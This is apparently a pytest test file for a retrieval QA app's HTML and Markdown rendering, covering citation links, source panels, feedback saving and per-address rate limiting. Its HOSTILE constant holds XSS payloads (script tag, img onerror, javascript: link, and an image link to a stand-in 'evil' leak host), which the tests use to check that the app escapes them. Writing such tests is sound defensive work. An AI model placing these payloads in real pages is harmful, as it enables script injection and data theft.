"""What the app shows: document and model text is escaped; only our own markup gets through."""

from qa.app.render import answer_html, answer_json, document_html, escape_text, reply_html, sources_html
from types import SimpleNamespace

from qa.types import Answer, Chunk, Citation, Passage

HOSTILE = '<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3)) ![i](http://evil/leak?d=1)'


DOCS = SimpleNamespace(title=lambda c: "T", path=lambda c: "a.txt", place=lambda c, start=None: "Disputes › Liancourt Rocks")


def passage(text: str, n: int, start: int = 0) -> Passage:
    return Passage(Chunk(f"c{n}", "d", "Disputes > Liancourt Rocks", text, start, start + len(text)), 0.03, n, 0.7, 1, 5.0, 2)


def test_hostile_text_is_inert():
    out = escape_text(HOSTILE)
    for raw in ("<script", "<img", "](javascript:", "![i]("):
        assert raw not in out
    assert "&lt;script&gt;" in out


def test_markers_become_links_only_for_shown_passages():
    html = answer_html("Signed in 1965 [1]. Also [3]. <b>x</b>", passages_shown=2, answer_id="a7")
    assert '<a class="cite" href="#a7-src-1" data-answer="a7" data-marker="1">[1]</a>' in html
    assert "src-3" not in html and "<b>" not in html


def test_each_answer_links_to_its_own_sources_and_previews_the_quote():
    quote = 'The rocks are called "Dokdo" <b>.'
    p = passage(quote, 1)
    answer = Answer("q", f"{quote} [1]", (Citation(1, "c1", quote, 0, len(quote)),), (p,), False, "generative", "m")
    first, second = reply_html(answer, "a1"), reply_html(answer, "a2")
    assert 'href="#a1-src-1"' in first and 'href="#a2-src-1"' in second and "a1" not in second
    assert 'title="The rocks are called &quot;Dokdo&quot; &lt;b&gt;."' in first  # the hover preview, escaped
    panel = sources_html(answer, lambda c, start: "T", answer_id="a2")
    assert 'data-answer="a2"' in panel and 'id="a2-src-1"' in panel and 'id="a1-src-1"' not in panel


def test_sources_panel_highlights_the_cited_span_and_collapses_the_rest():
    text = f"Intro {HOSTILE}. The rocks are called Dokdo. Tail."
    cited = passage(text, 1, start=100)
    quote = "The rocks are called Dokdo."
    start = 100 + text.index(quote)
    answer = Answer(
        "What are they called?", f"{quote} [1]", (Citation(1, "c1", quote, start, start + len(quote)),),
        (cited, passage("Other passage <script>x</script>", 2, 900)), False, "evidence", "m", query="rocks called (Dokdo)",
    )
    html = sources_html(answer, lambda c, start: f"Japan–South Korea relations › {c.section.replace(' > ', ' › ')}",
                        show_details=True, answer_id="a")
    assert '<div class="source" id="a-src-1"' in html and f"<mark>{quote}</mark>" in html
    assert "characters 100–" in html and "Disputes › Liancourt Rocks" in html
    assert "<details><summary>Other retrieved passages (1)</summary>" in html and 'id="a-src-2"' in html
    assert "<script" not in html and "<img" not in html and "fused 0.0300" in html
    assert "Searched for: <q>rocks called (Dokdo)</q>" in html
    assert f'data-doc="d" data-start="{start}" data-end="{start + len(quote)}"' in html  # opens at the quote
    calm = sources_html(answer, lambda c, start: "T")
    assert "characters" not in calm and "fused" not in calm  # offsets and scores only with details


def test_document_view_highlights_the_span_and_escapes_the_text():
    text = "Intro <script>x</script>.\nThe rocks are called Dokdo. Tail."
    start = text.index("The rocks")
    html = document_html("T <i>", text, start, start + 27, "page 3")
    assert '<mark id="cited">The rocks are called Dokdo.</mark>' in html
    assert "<script>" not in html and "&lt;script&gt;" in html and "T &lt;i&gt;" in html and "page 3" in html
    assert '<mark id="cited"></mark>' in document_html("T", "abc", 10, 20)  # offsets past the end: nothing breaks


def test_answer_json_matches_the_cli_contract():
    p = passage("The rocks are called Dokdo.", 1)
    answer = Answer("q", "The rocks are called Dokdo. [1]", (Citation(1, "c1", "The rocks are called Dokdo.", 0, 27),),
                    (p,), False, "evidence", "minilm", timings={"retrieve_ms": 1.0, "first_token_ms": 2.0, "total_ms": 3.0})
    out = answer_json(answer, DOCS)
    assert out["citations"] == [
        {"marker": 1, "chunk_id": "c1", "doc_id": "d", "title": "T", "file": "a.txt", "place": "Disputes › Liancourt Rocks",
         "section": "Disputes > Liancourt Rocks", "start": 0, "end": 27, "page": None, "quote": "The rocks are called Dokdo."}
    ]
    assert out["passages"][0]["file"] == "a.txt" and out["passages"][0]["place"] == "Disputes › Liancourt Rocks"
    assert out["passages"][0]["dense_rank"] == 1 and out["timings"]["total_ms"] == 3.0


def test_a_tentative_answer_is_set_apart_and_never_bold():
    from qa.types import TENTATIVE

    quote = "The rocks (Dokdo) are held by Korea."
    text = f"Not sure — the closest passage says: “{quote}” [1]"
    answer = Answer("q", text, (Citation(1, "c1", quote, 0, len(quote)),), (passage(quote, 1),), True, "evidence", "m",
                    outcome=TENTATIVE)
    html = reply_html(answer, "a3")
    assert html.startswith('<div class="tentative"><span class="not-sure">Not sure — the closest passage says:</span>')
    assert "<strong>" not in html and 'href="#a3-src-1"' in html and "&#40;Dokdo&#41;" in html


def test_a_thumb_or_a_reason_is_kept_and_said(tmp_path):
    from types import SimpleNamespace

    from qa.app import feedback
    from qa.app.webchat import judged

    pipeline = SimpleNamespace(settings=SimpleNamespace(feedback_path=tmp_path / "feedback.jsonl"))
    answer = {"question": "When?", "answer": "1965", "short_answer": "1965", "citations": [], "documents": []}
    conversation = {"answers": {"a0123456789": answer}}
    message = '<div class="reply" data-answer="a0123456789">1965</div>'
    conversation, said = judged(pipeline, conversation, SimpleNamespace(value=message, liked="Wrong source"))
    assert said.startswith("Saved — thanks. Wrong source:") and conversation["feedback"] == {"a0123456789": "Wrong source"}
    conversation, said = judged(pipeline, conversation, SimpleNamespace(value=message, liked=True))
    assert "right answer" in said and conversation["feedback"] == {"a0123456789": "Like"}
    assert judged(pipeline, conversation, SimpleNamespace(value=message, liked="Other"))[1] == ""  # not an option
    first, second = feedback.read(tmp_path / "feedback.jsonl")
    assert (first["liked"], first["reason"]) == (False, "Wrong source") and second["liked"] and "reason" not in second
    assert feedback.as_question(first, 1)["reason"] == "Wrong source"


def test_markdown_for_other_programs_keeps_document_markup_inert():
    """The answers API, MCP, exports and `qa eval`'s report carry Markdown that clients render
    (Open WebUI, LibreChat): a document's tags, images and links arrive as text, not as markup."""
    from qa.app.render import answer_markdown
    from qa.app.webchat import conversation_markdown
    from qa.evaluation.report import report
    from qa.types import TENTATIVE, Reading

    sentence = f"The rocks {HOSTILE} are called Dokdo."
    start = sentence.index("Dokdo")
    short = Reading(1, "c1", "Dokdo", start, start + 5, sentence, 0, len(sentence), 9.0, 4.0, 0.9)
    cited = (Citation(1, "c1", sentence, 0, len(sentence)),)
    shown = [answer_markdown(Answer("q", sentence, cited, (passage(sentence, 1),), False, "evidence", "m",
                                    short_answer=short)),
             answer_markdown(Answer("q", sentence, cited, (passage(sentence, 1),), True, "evidence", "m",
                                    outcome=TENTATIVE)),
             answer_markdown(Answer("q", f"{HOSTILE} [1]", cited, (passage(sentence, 1),), False, "generative", "m")),
             conversation_markdown({"answers": {"a1": {"question": HOSTILE, "answer": "x", "citations": [
                 {"marker": 1, "title": "<b>T</b>", "section": "", "page": None, "quote": HOSTILE}]}}}),
             report([{"id": "q1", "type": "t", "question": HOSTILE, "gold": [HOSTILE], "answer": HOSTILE,
                      "abstained": False, "evidence_rank": 1, "answerable": True,
                      "passages": [{"rank": 1, "section": "<i>s</i>", "text": HOSTILE}]}], {}, "")]
    for markdown in shown:
        for raw in ("<script", "<img", "<b>", "<i>", "](javascript:", "![i]("):
            assert raw not in markdown
        assert "&lt;script&gt;alert(1)" in markdown  # the text itself is kept, readable
    assert shown[0].startswith("**Dokdo**") and "**Dokdo**." in shown[0]


def test_one_client_cannot_fill_the_feedback_file_for_everyone(settings, fake_embedder, tmp_path):
    """👍 through the page's event API, over and over from one address: FEEDBACK_PER_MINUTE lines
    kept, then "Not saved: too much feedback…" until a minute has passed; another address is
    unaffected."""
    import dataclasses
    from types import SimpleNamespace

    from conftest import FakeReader

    from qa.app import feedback
    from qa.app.web import build
    from qa.pipeline import Pipeline

    settings = dataclasses.replace(settings, feedback_file=tmp_path / "feedback.jsonl")
    demo = build(Pipeline(settings, embedder=fake_embedder, reader=FakeReader()))
    on_like = next(block.fn for block in demo.fns.values() if getattr(block.fn, "__name__", "") == "on_like")
    answer = {"question": "When?", "answer": "1965", "short_answer": "1965", "citations": [], "documents": []}
    conversation = {"chat": [], "sources": [], "asked": [], "answers": {"a0123456789": answer}, "feedback": {}}
    def like(n: int) -> SimpleNamespace:  # a different message index each time: no repeat of one click
        return SimpleNamespace(value='<div class="reply" data-answer="a0123456789">1965</div>', liked=True, index=n)

    attacker, person = (SimpleNamespace(client=SimpleNamespace(host=h)) for h in ("10.0.0.9", "10.0.0.7"))
    for n in range(feedback.FEEDBACK_PER_MINUTE + 30):
        on_like(conversation, like(n), attacker)
    assert len(feedback.read(tmp_path / "feedback.jsonl")) == feedback.FEEDBACK_PER_MINUTE
    on_like(conversation, like(0), attacker)  # the same click again within 2 s: skipped, not counted
    on_like(conversation, like(0), person)
    assert len(feedback.read(tmp_path / "feedback.jsonl")) == feedback.FEEDBACK_PER_MINUTE + 1


def test_what_a_judgement_pops_up_is_plain_text(tmp_path):
    """gr.Info shows its message as text: no Markdown marks (a backtick showed literally)."""
    from types import SimpleNamespace

    from qa.app.webchat import judged

    pipeline = SimpleNamespace(settings=SimpleNamespace(feedback_path=tmp_path / "feedback.jsonl"))
    conversation = {"answers": {"a0123456789": {"question": "When?", "answer": "1965"}}}
    message = '<div class="reply" data-answer="a0123456789">1965</div>'
    for liked in (True, False, "Wrong answer"):
        said = judged(pipeline, conversation, SimpleNamespace(value=message, liked=liked))[1]
        assert said.startswith("Saved") and not any(mark in said for mark in "`*_<")


def test_heading_marks_show_as_headings_not_as_marks():
    text = "## Exports 2024\nRow 2: Country: Japan; Exports: 12\n== History ==\nA == B holds."
    answer = Answer("q", "x", (), (passage(text, 1),), True, "evidence", "m")
    for html in (sources_html(answer, lambda c, start: "T"), document_html("T", text, text.index("Row"), text.index(";"))):
        assert '<b class="heading">Exports 2024</b>' in html and '<b class="heading">History</b>' in html
        assert "##" not in html and "== History" not in html and "A == B holds." in html
